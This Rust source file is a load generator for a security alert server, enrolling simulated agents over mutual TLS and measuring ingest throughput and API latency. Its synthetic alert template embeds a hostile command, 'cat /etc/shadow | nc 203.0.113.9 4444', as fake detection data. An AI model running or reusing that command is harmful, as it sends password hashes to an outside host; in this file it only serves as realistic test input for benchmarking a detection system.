//! The load generator for `garrison server`: it owns simulated agents (enrolled
//! with rcgen CSRs, one mutual-TLS connection each, sending heartbeats and alert
//! batches) and the measurement of ingest rate and API latency under that load.
//!
//! Flow: log in as an admin, make one enrollment token for all agents, enroll
//! them (bounded concurrency), connect every agent, then release them together;
//! each sends batches back to back (the next when the previous is answered) and a
//! heartbeat every `heartbeat_every`; every `replay_every`-th send replays the
//! previous batch, which must be answered as a duplicate. Meanwhile one user
//! session reads `GET /api/v1/alerts` and the latencies are kept. The report
//! counts what the server acknowledged, so a caller can check the store holds
//! exactly that.

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::client::conn::http1::SendRequest;
use hyper_util::rt::TokioIo;
use rustls::ClientConfig;
use rustls_pki_types::pem::PemObject;
use rustls_pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName};
use serde_json::{json, Value};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// A failure of the load run, naming what was being done.
#[derive(Debug, thiserror::Error)]
pub enum LoadError {
    /// A socket operation.
    #[error("{op}: {source}")]
    Io {
        /// What was being done.
        op: String,
        /// The error.
        source: std::io::Error,
    },
    /// TLS configuration or handshake.
    #[error("TLS: {0}")]
    Tls(String),
    /// HTTP exchange.
    #[error("{op}: {source}")]
    Http {
        /// What was being done.
        op: String,
        /// The error.
        source: hyper::Error,
    },
    /// The server answered with an unexpected status.
    #[error("{op}: HTTP {status}: {body}")]
    Status {
        /// What was being done.
        op: String,
        /// The status.
        status: u16,
        /// The answer's body (truncated).
        body: String,
    },
    /// An answer did not have the expected shape.
    #[error("{op}: unexpected answer: {reason}")]
    Answer {
        /// What was being done.
        op: String,
        /// Why.
        reason: String,
    },
    /// Making a key or CSR.
    #[error("making an agent key or CSR: {0}")]
    Csr(String),
}

/// What to run.
#[derive(Debug, Clone)]
pub struct Config {
    /// The server's address (loopback).
    pub server: SocketAddr,
    /// The server's CA certificate, PEM (`DATA_DIR/server/ca.pem`).
    pub ca_pem: String,
    /// An admin user (makes the enrollment token, reads alerts).
    pub username: String,
    /// Its password.
    pub password: String,
    /// Simulated agents (each one connection).
    pub agents: usize,
    /// How long the agents send, after all are connected.
    pub duration: Duration,
    /// Alerts per batch.
    pub batch_size: usize,
    /// Heartbeat interval per agent.
    pub heartbeat_every: Duration,
    /// Every N-th send replays the previous batch (0: never).
    pub replay_every: u64,
    /// zstd-compress bodies (as the agent does).
    pub compress: bool,
    /// Pause between API reads.
    pub api_interval: Duration,
    /// Enrollments in flight at once.
    pub enroll_concurrency: usize,
}

impl Config {
    /// Defaults for `agents` simulated agents.
    pub fn new(server: SocketAddr, ca_pem: String, username: &str, password: &str) -> Config {
        Config {
            server,
            ca_pem,
            username: username.to_string(),
            password: password.to_string(),
            agents: 2000,
            duration: Duration::from_secs(60),
            batch_size: 100,
            heartbeat_every: Duration::from_secs(10),
            replay_every: 0,
            compress: true,
            api_interval: Duration::from_millis(100),
            enroll_concurrency: 32,
        }
    }
}

/// What a run measured.
#[derive(Debug, Clone, Default)]
pub struct Report {
    /// Agents enrolled.
    pub agents: usize,
    /// Agents connected when traffic started.
    pub connected: usize,
    /// Seconds enrollment took.
    pub enroll_secs: f64,
    /// Seconds of traffic (from release to the last answer).
    pub secs: f64,
    /// Batches stored.
    pub batches: u64,
    /// Alerts the server acknowledged as stored.
    pub alerts_stored: u64,
    /// Batches replayed.
    pub replays: u64,
    /// Replays answered as duplicates (should equal `replays`).
    pub replays_duplicate: u64,
    /// Heartbeats answered.
    pub heartbeats: u64,
    /// Failed requests (any status but 200, or a broken connection).
    pub errors: u64,
    /// The first failure.
    pub first_error: Option<String>,
    /// API reads done.
    pub api_requests: u64,
    /// API read latency, median, ms.
    pub api_p50_ms: f64,
    /// API read latency, 99th percentile, ms.
    pub api_p99_ms: f64,
    /// API read latency, worst, ms.
    pub api_max_ms: f64,
    /// Alerts acknowledged per second in the run's steady part: from a fifth
    /// of the duration (connections warm) to the stop signal (before the
    /// batches in flight drain). 0 when the run was too short to tell.
    pub steady_alerts_per_s: f64,
    /// `total` of GET /api/v1/alerts before traffic.
    pub alerts_total_before: i64,
    /// `total` of GET /api/v1/alerts after traffic.
    pub alerts_total_after: i64,
}

impl Report {
    /// Sustained ingest, alerts per second.
    pub fn alerts_per_s(&self) -> f64 {
        if self.secs > 0.0 {
            self.alerts_stored as f64 / self.secs
        } else {
            0.0
        }
    }

    /// The report as JSON.
    pub fn to_json(&self) -> Value {
        json!({
            "agents": self.agents, "connected": self.connected,
            "enroll_secs": round(self.enroll_secs), "secs": round(self.secs),
            "batches": self.batches, "alerts_stored": self.alerts_stored,
            "alerts_per_s": self.alerts_per_s().round(),
            "steady_alerts_per_s": self.steady_alerts_per_s.round(),
            "replays": self.replays, "replays_duplicate": self.replays_duplicate,
            "heartbeats": self.heartbeats, "errors": self.errors, "first_error": self.first_error,
            "api_requests": self.api_requests, "api_p50_ms": round(self.api_p50_ms),
            "api_p99_ms": round(self.api_p99_ms), "api_max_ms": round(self.api_max_ms),
            "alerts_total_before": self.alerts_total_before,
            "alerts_total_after": self.alerts_total_after,
        })
    }
}

fn round(x: f64) -> f64 {
    (x * 10.0).round() / 10.0
}

// ------------------------------------------------------------------ HTTP

/// One HTTP/1.1 connection over TLS.
struct Conn {
    send: SendRequest<Full<Bytes>>,
}

fn tls_config(
    ca_pem: &str,
    client: Option<(CertificateDer<'static>, PrivateKeyDer<'static>)>,
) -> Result<Arc<ClientConfig>, LoadError> {
    let mut roots = rustls::RootCertStore::empty();
    for c in CertificateDer::pem_slice_iter(ca_pem.as_bytes()) {
        let c = c.map_err(|e| LoadError::Tls(format!("the CA PEM: {e}")))?;
        roots
            .add(c)
            .map_err(|e| LoadError::Tls(format!("the CA certificate: {e}")))?;
    }
    #[allow(deprecated)]
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let b = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .map_err(|e| LoadError::Tls(e.to_string()))?
        .with_root_certificates(roots);
    let cfg = match client {
        Some((cert, key)) => b
            .with_client_auth_cert(vec![cert], key)
            .map_err(|e| LoadError::Tls(format!("the agent certificate: {e}")))?,
        None => b.with_no_client_auth(),
    };
    Ok(Arc::new(cfg))
}

impl Conn {
    async fn open(addr: SocketAddr, tls: Arc<ClientConfig>) -> Result<Conn, LoadError> {
        let tcp = tokio::net::TcpStream::connect(addr)
            .await
            .map_err(|e| LoadError::Io {
                op: format!("connecting to {addr}"),
                source: e,
            })?;
        let _ = tcp.set_nodelay(true);
        let name = ServerName::IpAddress(addr.ip().into());
        let stream = tokio_rustls::TlsConnector::from(tls)
            .connect(name, tcp)
            .await
            .map_err(|e| LoadError::Tls(format!("handshake with {addr}: {e}")))?;
        let (send, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream))
            .await
            .map_err(|e| LoadError::Http {
                op: "HTTP handshake".into(),
                source: e,
            })?;
        tokio::spawn(async move {
            let _ = conn.await;
        });
        Ok(Conn { send })
    }

    /// Sends a request; answers (status, body).
    async fn call(
        &mut self,
        method: &str,
        path: &str,
        headers: &[(&str, &str)],
        body: Bytes,
    ) -> Result<(u16, Bytes), LoadError> {
        let op = || format!("{method} {path}");
        self.send.ready().await.map_err(|e| LoadError::Http {
            op: op(),
            source: e,
        })?;
        let mut req = hyper::Request::builder()
            .method(method)
            .uri(path)
            .header("host", "127.0.0.1");
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        let req = req.body(Full::new(body)).map_err(|e| LoadError::Answer {
            op: op(),
            reason: format!("building the request: {e}"),
        })?;
        let resp = self
            .send
            .send_request(req)
            .await
            .map_err(|e| LoadError::Http {
                op: op(),
                source: e,
            })?;
        let status = resp.status().as_u16();
        let body = resp
            .into_body()
            .collect()
            .await
            .map_err(|e| LoadError::Http {
                op: op(),
                source: e,
            })?
            .to_bytes();
        Ok((status, body))
    }

    /// Sends JSON, expects `want`, answers the JSON answer.
    async fn json(
        &mut self,
        method: &str,
        path: &str,
        headers: &[(&str, &str)],
        body: Option<&Value>,
        want: u16,
    ) -> Result<Value, LoadError> {
        let mut h = headers.to_vec();
        if body.is_some() {
            h.push(("content-type", "application/json"));
        }
        let b = body.map(|v| Bytes::from(v.to_string())).unwrap_or_default();
        let (status, resp) = self.call(method, path, &h, b).await?;
        if status != want {
            return Err(LoadError::Status {
                op: format!("{method} {path}"),
                status,
                body: String::from_utf8_lossy(&resp).chars().take(400).collect(),
            });
        }
        serde_json::from_slice(&resp).map_err(|e| LoadError::Answer {
            op: format!("{method} {path}"),
            reason: e.to_string(),
        })
    }
}

/// Sends on `conn`, opening it when needed; a connection the server closed
/// while idle (its keep-alive timeout) is reopened once. Answers whether it was.
async fn send(
    conn: &mut Option<Conn>,
    addr: SocketAddr,
    tls: &Arc<ClientConfig>,
    req: (&str, &str, &[(&str, &str)]),
    body: Bytes,
) -> Result<(u16, Bytes, bool), LoadError> {
    let (method, path, headers) = req;
    let mut retried = false;
    loop {
        let c = match conn {
            Some(c) => c,
            None => conn.insert(Conn::open(addr, tls.clone()).await?),
        };
        match c.call(method, path, headers, body.clone()).await {
            Ok((s, b)) => return Ok((s, b, retried)),
            Err(e) => {
                *conn = None;
                if retried {
                    return Err(e);
                }
                retried = true;
            }
        }
    }
}

fn now_rfc3339() -> String {
    time::OffsetDateTime::now_utc()
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap_or_default()
}

fn now_ns() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| u64::try_from(d.as_nanos()).unwrap_or(u64::MAX))
        .unwrap_or(0)
}

// ------------------------------------------------------------- the agents

/// An enrolled agent.
struct Agent {
    idx: usize,
    tls: Arc<ClientConfig>,
}

const RULES: [(&str, &str, &str); 4] = [
    ("Terminal shell in container", "NOTICE", "MEDIUM"),
    ("Read sensitive file untrusted", "WARNING", "HIGH"),
    ("Outbound connection to C2 server", "CRITICAL", "CRITICAL"),
    ("Package management process launched", "NOTICE", "LOW"),
];

/// One alert as `garrison agent --format json` prints it.
fn alert_json(out: &mut String, agent: usize, seq: u64, i: usize, t: u64) {
    use std::fmt::Write;
    let (rule, prio, sev) = RULES[(seq as usize + i) % RULES.len()];
    let pid = 10_000 + (i as u64 * 7 + seq) % 50_000;
    let cid = format!("{:064x}", agent as u64 * 1_000_003 + 17);
    let _ = write!(
        out,
        concat!(
            r#"{{"kind":"alert","schema":1,"time_ns":{t},"rule":"{rule}","priority":"{prio}","severity":"{sev}","#,
            r#""output":"{rule} (user=root user_loginuid=-1 command=bash -c 'cat /etc/shadow | nc 203.0.113.9 4444' pid={pid} parent=runc container_id={cshort} image=registry.example/web:1.27.{agent} seq={seq}-{i})","#,
            r#""fields":{{"container.id":"{cshort}","container.image.repository":"registry.example/web","evt.type":"execve","fd.name":"/etc/shadow","proc.cmdline":"bash -c 'cat /etc/shadow | nc 203.0.113.9 4444'","proc.name":"bash","proc.pname":"runc","user.name":"root"}},"#,
            r#""tags":["container","mitre_credential_access","mitre_execution","shell","T1059.004"],"attack":["T1059.004"],"#,
            r#""process":{{"pid":{pid},"ppid":{ppid},"name":"bash","exe":"/usr/bin/bash","cmdline":"bash -c 'cat /etc/shadow | nc 203.0.113.9 4444'","uid":0,"user":"root","loginuid":4294967295}},"#,
            r#""ancestry":[{{"pid":{ppid},"name":"runc","exe":"/usr/bin/runc"}},{{"pid":812,"name":"containerd-shim-runc-v2","exe":"/usr/bin/containerd-shim-runc-v2"}},{{"pid":1,"name":"systemd","exe":"/usr/lib/systemd/systemd"}}],"#,
            r#""container":{{"id":"{cid}","runtime":"containerd","name":"web-{agent}","image":"registry.example/web:1.27.{agent}"}},"#,
            r#""syscall":"execve","source":"ebpf","seq":{eseq}}}"#
        ),
        t = t,
        rule = rule,
        prio = prio,
        sev = sev,
        pid = pid,
        ppid = pid - 1,
        cid = cid,
        cshort = &cid[..12],
        agent = agent,
        seq = seq,
        i = i,
        eseq = seq * 1000 + i as u64,
    );
}

/// A batch body: (bytes to send, alerts in it).
fn batch_body(agent: usize, seq: u64, n: usize, compress: bool) -> Bytes {
    let mut s = String::with_capacity(n * 1300 + 128);
    s.push_str(&format!(
        r#"{{"batch_id":"lg-{agent}-{seq}","sent_at":"{}","alerts":["#,
        now_rfc3339()
    ));
    let t = now_ns();
    for i in 0..n {
        if i > 0 {
            s.push(',');
        }
        alert_json(&mut s, agent, seq, i, t + i as u64);
    }
    s.push_str("]}");
    if compress {
        Bytes::from(zstd::bulk::compress(s.as_bytes(), 1).unwrap_or_else(|_| s.into_bytes()))
    } else {
        Bytes::from(s)
    }
}

fn heartbeat_body(compress: bool) -> Bytes {
    let s = json!({"sent_at": now_rfc3339(), "version": "0.1.0", "kernel": "6.1.0-loadgen",
        "sensor_mode": "ebpf", "counters": {"events": 123_456, "alerts": 789}, "lost_events": 0})
    .to_string();
    if compress {
        Bytes::from(zstd::bulk::compress(s.as_bytes(), 1).unwrap_or_else(|_| s.into_bytes()))
    } else {
        Bytes::from(s)
    }
}

#[derive(Default)]
struct Stats {
    batches: AtomicU64,
    alerts: AtomicU64,
    replays: AtomicU64,
    replays_dup: AtomicU64,
    heartbeats: AtomicU64,
    errors: AtomicU64,
    connected: AtomicUsize,
    stop: std::sync::atomic::AtomicBool,
    first_error: Mutex<Option<String>>,
}

impl Stats {
    fn error(&self, e: String) {
        self.errors.fetch_add(1, Ordering::Relaxed);
        if let Ok(mut f) = self.first_error.lock() {
            if f.is_none() {
                *f = Some(e);
            }
        }
    }
}

async fn agent_loop(
    cfg: Arc<Config>,
    agent: Agent,
    stats: Arc<Stats>,
    start: Arc<tokio::sync::Barrier>,
) {
    let enc: &[(&str, &str)] = if cfg.compress {
        &[
            ("content-encoding", "zstd"),
            ("content-type", "application/json"),
        ]
    } else {
        &[("content-type", "application/json")]
    };
    let mut conn = match Conn::open(cfg.server, agent.tls.clone()).await {
        Ok(c) => Some(c),
        Err(e) => {
            stats.error(format!("agent {}: {e}", agent.idx));
            None
        }
    };
    if let Some(c) = conn.as_mut() {
        match c
            .call(
                "POST",
                "/api/v1/agent/heartbeat",
                enc,
                heartbeat_body(cfg.compress),
            )
            .await
        {
            Ok((200, _)) => {
                stats.connected.fetch_add(1, Ordering::Relaxed);
            }
            Ok((s, b)) => {
                stats.error(format!(
                    "agent {}: first heartbeat: HTTP {s}: {}",
                    agent.idx,
                    String::from_utf8_lossy(&b)
                ));
                conn = None;
            }
            Err(e) => {
                stats.error(format!("agent {}: first heartbeat: {e}", agent.idx));
                conn = None;
            }
        }
    }
    start.wait().await;
    if conn.is_none() {
        return;
    }
    let mut seq = 0u64;
    let mut last_hb = Instant::now();
    let mut prev: Option<Bytes> = None;
    while !stats.stop.load(Ordering::Relaxed) {
        if last_hb.elapsed() >= cfg.heartbeat_every {
            last_hb = Instant::now();
            match send(
                &mut conn,
                cfg.server,
                &agent.tls,
                ("POST", "/api/v1/agent/heartbeat", enc),
                heartbeat_body(cfg.compress),
            )
            .await
            {
                Ok((200, _, _)) => {
                    stats.heartbeats.fetch_add(1, Ordering::Relaxed);
                }
                Ok((s, b, _)) => {
                    stats.error(format!(
                        "agent {}: heartbeat: HTTP {s}: {}",
                        agent.idx,
                        String::from_utf8_lossy(&b)
                    ));
                    return;
                }
                Err(e) => {
                    stats.error(format!("agent {}: heartbeat: {e}", agent.idx));
                    return;
                }
            }
        }
        seq += 1;
        let replay = cfg.replay_every > 0 && seq.is_multiple_of(cfg.replay_every) && prev.is_some();
        let body = match (&prev, replay) {
            (Some(p), true) => p.clone(),
            _ => batch_body(agent.idx, seq, cfg.batch_size, cfg.compress),
        };
        match send(
            &mut conn,
            cfg.server,
            &agent.tls,
            ("POST", "/api/v1/agent/alerts", enc),
            body.clone(),
        )
        .await
        {
            Ok((200, b, retried)) => {
                let ack: Value = serde_json::from_slice(&b).unwrap_or_default();
                if replay {
                    stats.replays.fetch_add(1, Ordering::Relaxed);
                    if ack["duplicate"] == json!(true) && ack["stored"] == json!(0) {
                        stats.replays_dup.fetch_add(1, Ordering::Relaxed);
                    } else {
                        stats.error(format!(
                            "agent {}: replay not a duplicate: {ack}",
                            agent.idx
                        ));
                    }
                } else if retried && ack["duplicate"] == json!(true) {
                    // Sent again after a broken connection: the first send was stored.
                    stats.batches.fetch_add(1, Ordering::Relaxed);
                    stats
                        .alerts
                        .fetch_add(cfg.batch_size as u64, Ordering::Relaxed);
                } else {
                    let n = ack["stored"].as_u64().unwrap_or(0);
                    if ack["duplicate"] == json!(true) || n != cfg.batch_size as u64 {
                        stats.error(format!("agent {}: batch {seq}: {ack}", agent.idx));
                    }
                    stats.batches.fetch_add(1, Ordering::Relaxed);
                    stats.alerts.fetch_add(n, Ordering::Relaxed);
                }
            }
            Ok((s, b, _)) => {
                stats.error(format!(
                    "agent {}: batch {seq}: HTTP {s}: {}",
                    agent.idx,
                    String::from_utf8_lossy(&b)
                        .chars()
                        .take(300)
                        .collect::<String>()
                ));
                return;
            }
            Err(e) => {
                stats.error(format!("agent {}: batch {seq}: {e}", agent.idx));
                return;
            }
        }
        if !replay {
            prev = Some(body);
        }
    }
}

/// Logs in: (cookie, csrf token).
async fn login(conn: &mut Conn, cfg: &Config) -> Result<(String, String), LoadError> {
    let body = json!({"username": cfg.username, "password": cfg.password}).to_string();
    conn.send.ready().await.map_err(|e| LoadError::Http {
        op: "login".into(),
        source: e,
    })?;
    let req = hyper::Request::builder()
        .method("POST")
        .uri("/api/v1/login")
        .header("host", "127.0.0.1")
        .header("content-type", "application/json")
        .body(Full::new(Bytes::from(body)))
        .map_err(|e| LoadError::Answer {
            op: "login".into(),
            reason: e.to_string(),
        })?;
    let resp = conn
        .send
        .send_request(req)
        .await
        .map_err(|e| LoadError::Http {
            op: "login".into(),
            source: e,
        })?;
    let status = resp.status().as_u16();
    let cookie = resp
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.split(';').next())
        .unwrap_or_default()
        .to_string();
    let b = resp
        .into_body()
        .collect()
        .await
        .map_err(|e| LoadError::Http {
            op: "login".into(),
            source: e,
        })?
        .to_bytes();
    if status != 200 || cookie.is_empty() {
        return Err(LoadError::Status {
            op: format!("logging in as {}", cfg.username),
            status,
            body: String::from_utf8_lossy(&b).into_owned(),
        });
    }
    let v: Value = serde_json::from_slice(&b).unwrap_or_default();
    Ok((
        cookie,
        v["csrf_token"].as_str().unwrap_or_default().to_string(),
    ))
}

async fn enroll_one(
    conn: &mut Conn,
    cfg: &Config,
    token: &str,
    idx: usize,
) -> Result<Agent, LoadError> {
    let key = rcgen::KeyPair::generate().map_err(|e| LoadError::Csr(e.to_string()))?;
    let csr = rcgen::CertificateParams::default()
        .serialize_request(&key)
        .and_then(|c| c.pem())
        .map_err(|e| LoadError::Csr(e.to_string()))?;
    let auth = format!("Bearer {token}");
    let v = conn
        .json(
            "POST",
            "/api/v1/enroll",
            &[("authorization", &auth)],
            Some(&json!({"hostname": format!("loadgen-{idx}"), "csr_pem": csr})),
            201,
        )
        .await?;
    let pem = v["certificate_pem"]
        .as_str()
        .ok_or_else(|| LoadError::Answer {
            op: "enroll".into(),
            reason: "no certificate_pem".into(),
        })?;
    let cert = CertificateDer::from_pem_slice(pem.as_bytes())
        .map_err(|e| LoadError::Tls(format!("the issued certificate: {e}")))?;
    let key = PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der()));
    Ok(Agent {
        idx,
        tls: tls_config(&cfg.ca_pem, Some((cert, key)))?,
    })
}

async fn alerts_total(conn: &mut Conn, cookie: &str) -> Result<i64, LoadError> {
    let v = conn
        .json(
            "GET",
            "/api/v1/alerts?limit=1",
            &[("cookie", cookie)],
            None,
            200,
        )
        .await?;
    v["total"].as_i64().ok_or_else(|| LoadError::Answer {
        op: "GET /api/v1/alerts".into(),
        reason: "no total".into(),
    })
}

fn percentile(sorted: &[f64], p: f64) -> f64 {
    if sorted.is_empty() {
        return 0.0;
    }
    let rank = ((p / 100.0) * sorted.len() as f64).ceil() as usize;
    sorted[rank.clamp(1, sorted.len()) - 1]
}

/// Runs the load: enroll, connect, send for `duration`, read the API meanwhile.
pub async fn run(cfg: Config) -> Result<Report, LoadError> {
    let cfg = Arc::new(cfg);
    let plain = tls_config(&cfg.ca_pem, None)?;
    let mut api = Conn::open(cfg.server, plain.clone()).await?;
    let (cookie, csrf) = login(&mut api, &cfg).await?;
    let tok = api
        .json(
            "POST",
            "/api/v1/enrollment-tokens",
            &[("cookie", &cookie), ("x-csrf-token", &csrf)],
            Some(
                &json!({"description": "garrison-loadgen", "expires_in_hours": 2,
                "max_uses": cfg.agents.max(1)}),
            ),
            201,
        )
        .await?;
    let token = tok["token"]
        .as_str()
        .ok_or_else(|| LoadError::Answer {
            op: "creating an enrollment token".into(),
            reason: "no token".into(),
        })?
        .to_string();

    // Enroll.
    let t_enroll = Instant::now();
    let next = Arc::new(AtomicUsize::new(0));
    let mut workers = tokio::task::JoinSet::new();
    for _ in 0..cfg.enroll_concurrency.clamp(1, cfg.agents.max(1)) {
        let (cfg, next, token, plain) = (cfg.clone(), next.clone(), token.clone(), plain.clone());
        workers.spawn(async move {
            let mut out = Vec::new();
            let mut conn = Conn::open(cfg.server, plain.clone()).await?;
            loop {
                let idx = next.fetch_add(1, Ordering::Relaxed);
                if idx >= cfg.agents {
                    return Ok::<_, LoadError>(out);
                }
                let a = match enroll_one(&mut conn, &cfg, &token, idx).await {
                    Ok(a) => a,
                    Err(_) => {
                        // The server closes the connection after an error answer: retry once.
                        conn = Conn::open(cfg.server, plain.clone()).await?;
                        enroll_one(&mut conn, &cfg, &token, idx).await?
                    }
                };
                out.push(a);
            }
        });
    }
    let mut agents = Vec::with_capacity(cfg.agents);
    while let Some(r) = workers.join_next().await {
        let list = r.map_err(|e| LoadError::Answer {
            op: "enrolling".into(),
            reason: e.to_string(),
        })??;
        agents.extend(list);
    }
    let enroll_secs = t_enroll.elapsed().as_secs_f64();
    // The server closes connections idle for 15 s: a fresh one.
    let mut api = Conn::open(cfg.server, plain.clone()).await?;
    let before = alerts_total(&mut api, &cookie).await?;

    // Connect every agent, then release them together.
    let stats = Arc::new(Stats::default());
    let start = Arc::new(tokio::sync::Barrier::new(agents.len() + 1));
    let n_agents = agents.len();
    let mut tasks = tokio::task::JoinSet::new();
    for a in agents {
        tasks.spawn(agent_loop(cfg.clone(), a, stats.clone(), start.clone()));
    }
    start.wait().await;
    let t0 = Instant::now();
    let end = t0 + cfg.duration;
    let mut lat = Vec::new();
    let mut reader = Some(api);
    let warm = t0 + cfg.duration / 5;
    let mut steady_from: Option<(Instant, u64)> = None;
    while Instant::now() < end {
        if steady_from.is_none() && Instant::now() >= warm {
            steady_from = Some((Instant::now(), stats.alerts.load(Ordering::Relaxed)));
        }
        let t = Instant::now();
        match send(
            &mut reader,
            cfg.server,
            &plain,
            ("GET", "/api/v1/alerts?limit=50", &[("cookie", &cookie)]),
            Bytes::new(),
        )
        .await
        {
            Ok((200, _, _)) => lat.push(t.elapsed().as_secs_f64() * 1000.0),
            Ok((s, b, _)) => {
                stats.error(format!(
                    "API read: HTTP {s}: {}",
                    String::from_utf8_lossy(&b)
                ));
                reader = None;
            }
            Err(e) => stats.error(format!("API read: {e}")),
        }
        tokio::time::sleep(cfg.api_interval).await;
    }
    let steady_alerts_per_s = match steady_from {
        Some((t, n)) if t.elapsed() > Duration::from_secs(1) => {
            stats.alerts.load(Ordering::Relaxed).saturating_sub(n) as f64
                / t.elapsed().as_secs_f64()
        }
        _ => 0.0,
    };
    // Each agent finishes the request in flight, then stops.
    stats.stop.store(true, Ordering::Relaxed);
    while tasks.join_next().await.is_some() {}
    let secs = t0.elapsed().as_secs_f64();
    let mut api = Conn::open(cfg.server, plain.clone()).await?;
    let after = alerts_total(&mut api, &cookie).await?;
    lat.sort_by(f64::total_cmp);
    let first_error = stats.first_error.lock().ok().and_then(|f| f.clone());
    Ok(Report {
        agents: n_agents,
        connected: stats.connected.load(Ordering::Relaxed),
        enroll_secs,
        secs,
        batches: stats.batches.load(Ordering::Relaxed),
        alerts_stored: stats.alerts.load(Ordering::Relaxed),
        replays: stats.replays.load(Ordering::Relaxed),
        replays_duplicate: stats.replays_dup.load(Ordering::Relaxed),
        heartbeats: stats.heartbeats.load(Ordering::Relaxed),
        errors: stats.errors.load(Ordering::Relaxed),
        first_error,
        api_requests: lat.len() as u64,
        api_p50_ms: percentile(&lat, 50.0),
        api_p99_ms: percentile(&lat, 99.0),
        api_max_ms: lat.last().copied().unwrap_or(0.0),
        steady_alerts_per_s,
        alerts_total_before: before,
        alerts_total_after: after,
    })
}
